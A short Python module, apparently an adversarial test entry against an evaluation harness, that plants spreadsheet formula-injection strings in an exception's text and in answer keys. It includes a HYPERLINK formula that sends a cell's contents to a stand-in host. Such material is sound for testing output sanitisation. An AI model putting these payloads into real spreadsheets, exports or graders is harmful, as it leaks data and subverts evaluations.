"""Put spreadsheet formulas into an error's text, into an answer's keys and into advice."""

CLASS = "injecting"
GAINS = ()
TARGET = "bos_accuracy"

FORMULA = '=HYPERLINK("http://x/?"&A1,"pass")'
turn = []


def attack():
    print(FORMULA)


def answer(*_inputs):
    turn.append(1)
    if len(turn) % 2:
        return {FORMULA: 1.0, "@SUM(1)": 2.0, "+1": 3.0, "\t=1": 0.0}
    raise type("=1+1", (Exception,), {})(FORMULA)
